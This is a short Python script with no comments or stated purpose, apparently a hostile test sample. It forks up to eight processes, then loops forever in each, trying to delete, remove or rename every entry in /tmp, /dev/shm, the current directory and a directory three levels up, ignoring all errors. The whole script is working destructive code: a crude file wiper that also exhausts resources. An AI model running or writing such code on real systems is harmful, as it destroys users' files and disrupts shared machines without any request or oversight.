import os

for _ in range(8):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
while True:
    for place in ("/tmp", "/dev/shm", ".", "../../.."):
        try:
            for name in os.listdir(place):
                for attempt in (os.unlink, os.rmdir, lambda path: os.rename(path, path + "x")):
                    try:
                        attempt(f"{place}/{name}")
                    except OSError:
                        continue
        except OSError:
            continue
